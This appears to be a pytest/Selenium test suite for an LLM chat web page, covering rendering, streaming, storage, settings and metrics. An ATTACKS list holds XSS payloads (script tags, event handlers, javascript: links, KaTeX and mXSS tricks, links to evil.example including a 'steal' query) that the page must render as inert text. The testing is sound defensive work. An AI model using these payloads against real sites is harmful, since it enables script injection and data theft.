"""The chat page in a real browser: against scripted answers, and against the demo model."""

from __future__ import annotations

import contextlib
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

pytest.importorskip("selenium")

from browser import CHROMIUM, DRIVER, MISSING, ScriptedServer, browser, scripted_server
from selenium.webdriver.chrome.webdriver import WebDriver
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from server_process import ServerProcess, running_server

pytestmark = pytest.mark.skipif(not (CHROMIUM and DRIVER), reason=MISSING)

PATIENCE = 60.0
ATTACKS = (
    "<script>window.pwned = 1</script>",
    '<img src=x onerror="window.pwned = 1">',
    "<svg onload='window.pwned = 1'><script>window.pwned = 1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "[link](javascript:window.pwned=1)",
    "[link](java\nscript:window.pwned=1)",
    "[link](data:text/html,<script>window.opener.pwned=1</script>)",
    "[l](JaVaScRiPt&colon;window.pwned=1) <a href='vbscript:1'>v</a>",
    "![x](https://evil.example/steal?q=secret) ![y](javascript:1)",
    '![a](x" onerror="window.pwned=1)',
    "<https://evil.example/\" onmouseover=\"window.pwned=1>",
    "$\\href{javascript:window.pwned=1}{x}$ $\\htmlData{x=1}{y}$ $\\includegraphics{https://evil.example/x.png}$",
    "$$\\begin{array}\\html@mathml{<img src=x onerror=window.pwned=1>}$$",
    "```html\n<img src=x onerror='window.pwned=1'>\n```",
    '```"><img src=x onerror=window.pwned=1>\ncode\n```',
    "`<img src=x onerror=window.pwned=1>`",
    "<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><button>go</button></form><base href=https://evil.example>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
    "<details open ontoggle=window.pwned=1>x</details><div class='veil' id=app>over</div>",
    "|a|\n|-|\n|<img src=x onerror=window.pwned=1>|",
    "<div class=math>\\href{javascript:window.pwned=1}{x}</div>",
)  # fmt: skip


class Page:
    """What a person does with the page.

    Attributes:
        driver: The browser.
    """

    def __init__(self, driver: WebDriver) -> None:
        self.driver = driver

    def open(self, url: str) -> Page:
        """Load the page with an empty store."""
        self.driver.get("about:blank")  # of the server no page but ours: others ask for favicon.ico
        where = {"origin": "{0.scheme}://{0.netloc}".format(urlsplit(url)), "storageTypes": "all"}
        self.driver.execute_cdp_cmd("Storage.clearDataForOrigin", where)
        self.driver.get_log("browser")
        return self.load(url)

    def load(self, url: str) -> Page:
        """Load the page with what is stored."""
        self.driver.get(url)
        self.wait(lambda: self.all(".composer textarea"))
        return self

    def all(self, css: str) -> list[Any]:
        return self.driver.find_elements(By.CSS_SELECTOR, css)

    def one(self, css: str) -> Any:
        return self.wait(lambda: self.all(css))[-1]

    def nth(self, css: str, index: int) -> Any:
        """The element at `index`, once there are so many."""
        return self.wait(lambda: self.all(css)[index : index + 1])[0]

    def texts(self, css: str) -> list[str]:
        """Their texts at one moment."""
        script = "return [...document.querySelectorAll(arguments[0])].map((e) => e.textContent)"
        return list(self.driver.execute_script(script, css))

    def shows(self, css: str, expected: list[str]) -> None:
        """Wait until the elements' texts are these."""
        self.wait(lambda: self.texts(css) == expected)

    def says(self, css: str, part: str) -> None:
        """Wait until the text of the last of the elements has that part."""
        self.wait(lambda: part in self.texts(css)[-1])

    def wait(self, condition: Callable[[], Any]) -> Any:
        deadline = time.monotonic() + PATIENCE
        while True:
            try:
                found = condition()
            except Exception as error:  # an element that was replaced meanwhile
                found = None
                if time.monotonic() > deadline:
                    raise AssertionError(self.body) from error
            if found:
                return found
            assert time.monotonic() < deadline, self.body
            time.sleep(0.05)

    @property
    def body(self) -> str:
        return str(self.driver.execute_script("return document.body.innerText"))

    def ask(self, text: str) -> None:
        self.one(".composer textarea").send_keys(text, Keys.ENTER)

    def finished(self, answers: int = 1) -> Page:
        """Wait until that many answers are whole."""
        self.wait(lambda: len(self.all(".answer")) == answers)
        self.wait(lambda: not self.all("[aria-busy=true]"))
        return self

    def named(self, css: str, label: str) -> Any:
        """The last element with an accessible name."""
        return self.one(f'{css}[aria-label="{label}"]')

    def click(self, element: Any) -> None:
        self.driver.execute_script("arguments[0].click()", element)

    def keys(self, *keys: str) -> None:
        self.driver.switch_to.active_element.send_keys(*keys)

    def problems(self) -> list[str]:
        """Errors of scripts and refusals of the security policy."""
        severe = (e for e in self.driver.get_log("browser") if e["level"] == "SEVERE")
        return [e["message"] for e in severe]

    def noted(self, status: int, times: int = 1) -> None:
        """Wait until the browser has noted so many refusals with that status, and nothing else."""
        found: list[str] = []
        self.wait(lambda: found.extend(self.problems()) or len(found) >= times)
        assert all(f"status of {status} " in message for message in found), found
        assert len(found) == times, found

    def facts(self) -> dict[str, str]:
        """The server's figures at one moment."""
        script = """return Object.fromEntries([...document.querySelectorAll('.facts dt')].map(
            (term) => [term.textContent, term.nextElementSibling.textContent]))"""
        return dict(self.driver.execute_script(script))


@pytest.fixture(scope="module")
def driver(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebDriver]:
    with browser(tmp_path_factory.mktemp("profile")) as chrome:
        yield chrome


@pytest.fixture(scope="module")
def shared_script() -> Iterator[ScriptedServer]:
    with scripted_server() as scripted:
        yield scripted


@pytest.fixture
def script(shared_script: ScriptedServer) -> ScriptedServer:
    shared_script.answers, shared_script.requests = [], []
    shared_script.key, shared_script.metrics, shared_script.left = "", "", 0
    shared_script.may_name_models.set()
    return shared_script


@pytest.fixture
def page(driver: WebDriver, script: ScriptedServer) -> Iterator[Page]:
    opened = Page(driver).open(script.url)
    yield opened
    assert opened.problems() == []


def in_pieces(text: str, size: int = 3) -> list[Any]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def test_markdown_code_and_maths_are_streamed(page: Page, script: ScriptedServer) -> None:
    text = (
        "# Title\n\nSome **bold** text, $x^2$ and \\(y\\); $5 or $6.\n\n$$\\frac{1}{2}$$\n\n"
        "```python\ndef f(): return 1\n```\n\n"
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n3. three\n4. four\n"
    )
    script.answers = [[*in_pieces(text), 0.2, "The end.\n"]]
    page.ask("Hello")
    page.finished()
    page.shows(".md h1", ["Title"])
    page.shows(".md strong", ["bold"])
    page.wait(lambda: len(page.all(".md .katex")) == 3)
    page.wait(lambda: len(page.all(".md .katex-display")) == 1)
    page.says(".md", "$5 or $6.")
    page.shows(".code pre", ["def f(): return 1\n"])
    page.shows(".hljs-keyword", ["def", "return"])
    page.shows(".md td[align=right]", ["2"])
    assert page.one(".md ol").get_attribute("start") == "3"
    page.says(".stats", "tokens/s")
    page.says(".stats", "128 of 200 prompt tokens from cache")
    page.says(".stats", f"{len(in_pieces(text)) + 1} tokens")
    page.says(".context", f"{200 + len(in_pieces(text)) + 1} / 1,000")
    assert page.one(".md").get_property("childElementCount") == 6
    sent = script.requests[0]
    assert sent["messages"] == [{"role": "user", "content": "Hello"}]
    assert sent["stream"] is True
    assert "temperature" not in sent


def test_a_streamed_text_looks_as_the_whole_one(page: Page) -> None:
    """Blocks that were shown early must not differ from those of the finished text."""
    text = (
        "a\n\n- x\n- y\n\n  more\n\n> q\n\n```js\nlet a = 1;\n\nlet b;\n```\n\n"
        "t | u\n-|-\n1 | 2\n\n[r]: https://x.example/\n\nsee [r]\n"
    )
    equal = page.driver.execute_async_script(
        """const [text, done] = arguments;
        import('./web/js/markdown.js').then(({ showMarkdown }) => {
          const streamed = document.createElement('div'), whole = document.createElement('div');
          for (let i = 1; i <= text.length; i++) showMarkdown(streamed, text.slice(0, i));
          showMarkdown(whole, text);
          done([streamed.innerHTML, whole.innerHTML]);
        })""",
        text,
    )
    assert equal[0] == equal[1]


@pytest.mark.parametrize("size", [1000, 2])
def test_what_a_model_writes_is_only_text(page: Page, script: ScriptedServer, size: int) -> None:
    whole = "\n\n".join(ATTACKS)
    script.answers = [[{"reasoning_content": whole}, *in_pieces(whole, size), whole]]
    page.ask(ATTACKS[0])
    page.finished()
    page.click(page.one(".thinking summary"))
    time.sleep(0.3)
    found = page.driver.execute_script(
        """const tags = new Set(arguments[0].split(' '));
           const bad = [...document.querySelectorAll('.thread *')].filter((e) =>
             tags.has(e.tagName)
             || [...e.attributes].some((a) => a.name.startsWith('on'))
             || !/^(https?:|mailto:|web\\/vendor\\/icons|$)/.test(e.getAttribute('href') ?? '')
             || (e.tagName === 'A' && e.rel !== 'noopener noreferrer nofollow'));
           return [window.pwned ?? null, bad.map((e) => e.outerHTML),
                   document.querySelectorAll('#app').length, location.href,
                   performance.getEntriesByType('resource').map((r) => r.name)]""",
        "SCRIPT IMG IFRAME OBJECT EMBED STYLE LINK FORM BASE META",
    )
    pwned, bad, apps, address, loaded = found
    assert pwned is None
    assert bad == []
    assert apps == 1
    assert address.startswith(script.url)
    assert all(name.startswith(script.url) for name in loaded), loaded
    assert ATTACKS[0] in page.texts(".bubble")[0]
    assert "<script>window.pwned = 1</script>" in page.texts(".answer > .md")[0]


def test_titles_and_names_from_a_model_are_only_text(page: Page, script: ScriptedServer) -> None:
    attack = '<img src=x onerror="window.pwned = 1">'
    call = {"index": 0, "id": "c", "function": {"name": attack, "arguments": attack}}
    script.answers = [[{"tool_calls": [call]}], [{"status": 400, "message": attack}]]
    page.ask(attack)
    page.finished()
    page.ask("again")
    page.finished(2)
    page.says(".sidebar .open", attack)
    page.says(".failure", attack)
    assert page.driver.execute_script("return window.pwned ?? null") is None
    assert page.all("img") == []
    page.noted(400)


def test_stop_ends_the_answer_and_frees_the_server(page: Page, script: ScriptedServer) -> None:
    script.answers = [["one ", *[0.05, "more "] * 2000], ["second"]]
    page.ask("Go on for ever")
    page.says(".answer", "more")
    page.keys(Keys.ESCAPE)
    page.finished()
    page.wait(lambda: script.left == 1)
    page.says(".answer footer", "Stopped")
    page.ask("And now?")
    page.finished(2)
    roles = [m["role"] for m in script.requests[1]["messages"]]
    assert roles == ["user", "assistant", "user"]


def test_regenerate_and_edit_replace_what_came_after(page: Page, script: ScriptedServer) -> None:
    script.answers = [["first"], ["second"], ["third"], ["fourth"]]
    page.ask("Question")
    page.finished()
    page.ask("Follow-up")
    page.finished(2)
    page.click(page.nth('.answer [aria-label="Regenerate"]', 0))
    page.shows(".answer > .md", ["third\n"])
    assert script.requests[2]["messages"] == [{"role": "user", "content": "Question"}]
    page.click(page.named(".question button", "Edit"))
    page.one(".edit").send_keys(" two", Keys.ENTER)
    page.shows(".answer > .md", ["fourth\n"])
    assert script.requests[3]["messages"] == [{"role": "user", "content": "Question two"}]


def test_conversations_outlive_the_page(page: Page, script: ScriptedServer) -> None:
    script.answers = [["kept **answer**"], ["half ", 1.5, *[0.05, "x "] * 2000]]
    page.ask("First")
    page.finished()
    page.click(page.one(".sidebar .new:not(.foot)"))
    page.ask("Second")
    page.says(".answer", "half")
    time.sleep(1.0)
    page.load(script.url)
    page.shows(".sidebar .open", ["Second", "First"])
    page.wait(lambda: script.left == 1)
    page.click(page.nth(".sidebar .open", 0))
    page.says(".answer footer", "Interrupted")
    page.says(".answer .md", "half")
    page.click(page.nth(".sidebar .open", 1))
    page.shows(".answer strong", ["answer"])
    page.one(".search input").send_keys("KEPT")
    page.shows(".sidebar .open", ["First"])


def test_thinking_is_folded_and_tools_are_shown(page: Page, script: ScriptedServer) -> None:
    calls = [
        {"tool_calls": [{"index": 0, "id": "c1", "function": {"name": "get_weather"}}]},
        {"tool_calls": [{"index": 0, "function": {"arguments": '{"city":'}}]},
        {"tool_calls": [{"index": 0, "function": {"arguments": '"Berlin"}'}}]},
    ]  # fmt: skip
    thoughts = [{"reasoning_content": "Hm, "}, 0.3, {"reasoning_content": "weather."}]
    script.answers = [[*thoughts, *calls], ["It is sunny."]]
    page.ask("Weather?")
    page.finished()
    thinking = page.one(".thinking")
    assert thinking.get_attribute("open") is None
    assert "Thought for 0." in thinking.text
    page.shows(".thinking .md", ["Hm, weather.\n"])
    page.says(".tool-head", "Calls get_weather")
    page.says(".tool pre", '"city": "Berlin"')
    page.one(".tool textarea").send_keys('{"sun": true}')
    page.click(page.one(".tool form button"))
    page.finished(2)
    function = {"name": "get_weather", "arguments": '{"city":"Berlin"}'}
    call = {"id": "c1", "type": "function", "function": function}
    assert script.requests[1]["messages"][1:] == [
        {"role": "assistant", "content": "", "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "c1", "content": '{"sun": true}'},
    ]  # fmt: skip


def test_settings_reach_the_request_and_stay(page: Page, script: ScriptedServer) -> None:
    script.answers = [["ok"], ["ok"]]
    page.click(page.one(".sidebar .foot"))
    page.one("textarea[name=system]").send_keys("Be brief.")
    page.one("input[name=temperature]").send_keys("0.5")
    page.one("input[name=max_tokens]").send_keys("9")
    page.click(page.nth('[role=radiogroup][aria-label="Thinking"] button', 2))
    page.keys(Keys.ESCAPE)
    page.wait(lambda: not page.all("dialog"))
    page.ask("Hi")
    page.finished()
    sent = script.requests[0]
    assert sent["messages"][0] == {"role": "system", "content": "Be brief."}
    assert (sent["temperature"], sent["max_tokens"]) == (0.5, 9)
    assert sent["chat_template_kwargs"] == {"enable_thinking": False}
    assert "top_p" not in sent
    page.load(script.url)
    page.ask("Again")
    page.finished()
    assert script.requests[1]["temperature"] == 0.5


def test_a_key_is_asked_for_and_kept(driver: WebDriver, script: ScriptedServer) -> None:
    script.key = "secret"
    page = Page(driver).open(script.url)
    field = page.one("input[name=ask-key]")
    field.send_keys("wrong", Keys.ENTER)
    page.wait(lambda: "refuses" in page.body)
    page.one("input[name=ask-key]").send_keys(Keys.CONTROL, "a")
    page.one("input[name=ask-key]").send_keys("secret", Keys.ENTER)
    page.wait(lambda: not page.all("dialog"))
    script.answers = [["hello"]]
    page.ask("Hi")
    page.finished()
    page.shows(".answer > .md", ["hello\n"])
    page.load(script.url).shows(".model", ["scripted"])
    page.noted(401, times=2)


def test_failures_are_said_and_can_be_retried(driver: WebDriver, script: ScriptedServer) -> None:
    page = Page(driver).open(script.url)
    refusal = [{"status": 400, "message": "The prompt is too long: 1200 tokens"}]
    script.answers = [["one"], refusal, ["two"]]
    page.ask("First")
    page.finished()
    page.ask("Second")
    page.finished(2)
    page.says(".failure", "The prompt is too long: 1200 tokens")
    page.click(page.nth(".failure button", 1))
    page.wait(lambda: "two\n" in page.texts(".answer > .md"))
    assert script.requests[2]["messages"] == [{"role": "user", "content": "Second"}]
    page.says(".dropped", "no longer sent")
    page.noted(400)


def test_keyboard(page: Page, script: ScriptedServer) -> None:
    script.answers = [["ok"]]
    area = page.one(".composer textarea")
    area.send_keys("two", Keys.SHIFT, Keys.ENTER, Keys.NULL, "lines")
    assert area.get_property("value") == "two\nlines"
    area.send_keys(Keys.ENTER)
    page.finished()
    assert script.requests[0]["messages"][0]["content"] == "two\nlines"
    page.one(".composer textarea").send_keys(Keys.ARROW_UP)
    page.wait(lambda: page.all(".edit"))
    page.one(".edit").send_keys(Keys.ESCAPE)
    page.wait(lambda: not page.all(".edit"))
    page.keys(Keys.CONTROL, ".")
    page.wait(lambda: page.all("main.server"))
    page.keys(Keys.NULL)
    page.keys(Keys.CONTROL, Keys.SHIFT, "o")
    page.wait(lambda: page.all(".welcome"))


def test_an_input_method_s_enter_does_not_send(page: Page, script: ScriptedServer) -> None:
    page.driver.execute_script(
        """const area = document.querySelector('.composer textarea'); area.focus();
        area.value = 'ni hao'; area.dispatchEvent(new Event('input', { bubbles: true }));
        const enter = { key: 'Enter', isComposing: true, bubbles: true };
        area.dispatchEvent(new KeyboardEvent('keydown', enter))"""
    )
    time.sleep(0.3)
    assert script.requests == []
    assert page.all(".welcome")


def test_both_languages_say_everything(page: Page) -> None:
    keys = page.driver.execute_async_script(
        "const done = arguments[0]; import('./web/js/i18n.js').then((m) => done(m.keys()))"
    )
    assert keys["en"] == keys["zh"]
    page.click(page.one(".sidebar .foot"))
    page.one('[role=radiogroup][aria-label="Language"] button:nth-of-type(3)')  # once it is there
    page.click(page.nth('[role=radiogroup][aria-label="Language"] button', 2))
    page.shows("dialog h2", ["设置"])
    page.click(page.nth('[role=radiogroup][aria-label="外观"] button', 2))
    style = "return getComputedStyle(document.body).backgroundColor"
    dark = page.driver.execute_script(style)
    assert dark == "rgb(25, 25, 24)"
    page.driver.refresh()
    page.shows(".welcome h1", ["想聊点什么？"])
    assert page.driver.execute_script(style) == dark


def test_a_narrow_screen_has_no_sideways_scrolling(tmp_path: Path, script: ScriptedServer) -> None:
    wide = (
        "| a | b |\n|---|---|\n| "
        + "x" * 300
        + " | y |\n\n```\n"
        + "z" * 400
        + "\n```\n\n"
        + "w" * 500
    )
    script.answers = [[wide]]
    with browser(tmp_path / "narrow", size=(360, 720), language="zh-CN") as driver:
        page = Page(driver).open(script.url)
        page.shows(".welcome h1", ["想聊点什么？"])
        page.ask("宽")
        page.finished()
        width = "return document.querySelector(arguments[0]).scrollWidth"
        assert all(driver.execute_script(width, css) <= 360 for css in ("html", ".scroller"))
        page.click(page.one(".show-sidebar"))
        page.wait(lambda: page.one(".sidebar").rect["x"] == 0)
        assert page.problems() == []


def test_the_server_tab_without_metrics_says_why(driver: WebDriver, script: ScriptedServer) -> None:
    script.metrics = None
    page = Page(driver).open(script.url)
    page.click(page.nth("[role=tab]", 1))
    page.wait(lambda: "--metrics-port" in page.body)
    page.problems()  # the browser notes each 404


def test_the_rate_of_tokens_is_steady_when_the_totals_come_in_jumps(
    driver: WebDriver, script: ScriptedServer
) -> None:
    """100 tokens a second, told at every other look; and it starts without a spike."""
    looks: list[float] = []

    def metrics() -> str:
        looks.append(time.monotonic())
        tokens = 5000 + 200 * (len(looks) // 2)
        return f"fastdeploy:generation_tokens_total {tokens}\nfastdeploy:prompt_tokens_total 100\n"

    script.metrics = metrics
    page = Page(driver).open(script.url)
    page.click(page.nth("[role=tab]", 1))
    page.wait(lambda: len(looks) >= 11)
    mean = 100 * (len(looks) - 1) / (looks[-1] - looks[0])  # below 100 where looks come late
    most = int(page.wait(lambda: re.findall(r"at most (\d+)", page.body))[0])
    assert 0.6 * mean <= most <= 160
    assert page.problems() == []


# While it loads -----------------------------------------------------------------------------------


@contextlib.contextmanager
def before_the_page(driver: WebDriver, script: str) -> Iterator[None]:
    """Run a script in every document before its own ones."""
    command = "Page.addScriptToEvaluateOnNewDocument"
    added = driver.execute_cdp_cmd(command, {"source": script})
    try:
        yield
    finally:
        driver.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", added)


def test_who_asks_before_the_model_has_a_name_is_answered(
    page: Page, script: ScriptedServer
) -> None:
    script.may_name_models.clear()
    script.answers = [["early"]]
    page.load(script.url)
    page.ask("Hi")
    page.finished()
    page.shows(".answer > .md", ["early\n"])
    assert script.requests[0]["model"] == "default"
    assert page.texts(".model") == [""]
    script.may_name_models.set()
    page.shows(".model", ["scripted"])
    page.shows(".answer > .md", ["early\n"])


# What was stored is read when the test says so.
STORE_WAITS = """
  const { set } = Object.getOwnPropertyDescriptor(IDBRequest.prototype, 'onsuccess');
  const told = new Promise((resolve) => { window.readStore = resolve; });
  Object.defineProperty(IDBRequest.prototype, 'onsuccess', {
    set(take) { set.call(this, (event) => told.then(() => take(event))); },
  });
"""


def test_what_is_asked_before_the_store_was_read_is_kept(
    page: Page, script: ScriptedServer
) -> None:
    script.answers = [["old"], ["new"]]
    page.ask("First")
    page.finished()
    with before_the_page(page.driver, STORE_WAITS):
        page.load(script.url)
        page.ask("Second")
        page.finished()
        page.driver.execute_script("window.readStore()")
        page.shows(".sidebar .open", ["Second", "First"])
        page.shows(".answer > .md", ["new\n"])
        page.click(page.nth(".sidebar .open", 1))
        page.shows(".answer > .md", ["old\n"])
    page.wait(lambda: stored(page) == {"First", "Second"})
    page.load(script.url).shows(".sidebar .open", ["Second", "First"])


def stored(page: Page) -> set[str]:
    """Titles of the conversations in the store."""
    return set(page.driver.execute_async_script(
        """const done = arguments[0];
        indexedDB.open('fastdeploy_lite').onsuccess = ({ target: { result: db } }) => {
          db.transaction('conversations').objectStore('conversations').getAll().onsuccess =
            ({ target }) => { db.close(); done(target.result.map((c) => c.title)); };
        }"""
    ))  # fmt: skip


# A page whose first frame and timers come late, as on a busy machine: after the model's name.
LATE_FRAME = """
  const { setTimeout: timer, requestAnimationFrame: frame } = window;
  const frames = [], timers = [];
  window.requestAnimationFrame = (f) => frames.push(f);
  window.setTimeout = (f) => timers.push(f);
  const isNamed = () => performance.getEntriesByType('resource').some(
    ({ name, responseEnd }) => name.endsWith('/v1/models') && responseEnd);
  const release = () => {
    Object.assign(window, { setTimeout: timer, requestAnimationFrame: frame });
    for (const f of [...frames, ...timers]) f();
    window.isLate = true;
  };
  const look = () => (isNamed() ? timer(release, 300) : timer(look, 10));
  look();
"""


def test_what_arrives_before_the_first_frame_is_shown(page: Page, script: ScriptedServer) -> None:
    with before_the_page(page.driver, LATE_FRAME):
        page.load(script.url)
        page.wait(lambda: page.driver.execute_script("return window.isLate"))
        page.shows(".model", ["scripted"])
        page.wait(lambda: page.all(".examples button"))


# Against the demo model ---------------------------------------------------------------------------


def test_the_demo_answers_and_its_server_is_shown(driver: WebDriver, server: ServerProcess) -> None:
    page = Page(driver).open(server.url)
    page.click(page.nth(".examples button", 1))
    page.finished()
    page.says(".answer > .md", "诗")
    page.says(".stats", "to first token")
    before = server.metric("fastdeploy:generation_tokens_total")
    page.ask("What is a gourd?")
    page.finished(2)
    page.says(".stats", "prompt tokens from cache")
    page.click(page.nth("[role=tab]", 1))
    page.wait(lambda: page.facts()["Model"] == "demo")
    page.wait(lambda: int(page.facts()["Generated tokens"].replace(",", "")) > before)
    page.says(".legend", "256 blocks")
    assert page.problems() == []


def test_the_interface_is_described_without_a_network(
    driver: WebDriver, server: ServerProcess
) -> None:
    page = Page(driver)
    driver.get("about:blank")  # the page before asks for metrics every second
    driver.get_log("browser")
    driver.get(f"{server.url}/docs")
    page.wait(lambda: "/v1/chat/completions" in page.body)
    assert page.problems() == []


def test_the_page_with_a_key_and_behind_a_prefix(driver: WebDriver, tmp_path: Path) -> None:
    flags = ("--api-key", "secret", "--root-path", "/llm")
    with running_server(tmp_path, flags) as server:
        page = Page(driver).open(f"{server.url}/llm/")
        page.one("input[name=ask-key]").send_keys("secret", Keys.ENTER)
        page.shows(".model", ["demo"])
        page.ask("What is a gourd?")
        page.finished()
        page.wait(lambda: any(map(str.strip, page.texts(".answer > .md"))))
        page.click(page.nth("[role=tab]", 1))
        page.wait(lambda: page.all(".facts"))
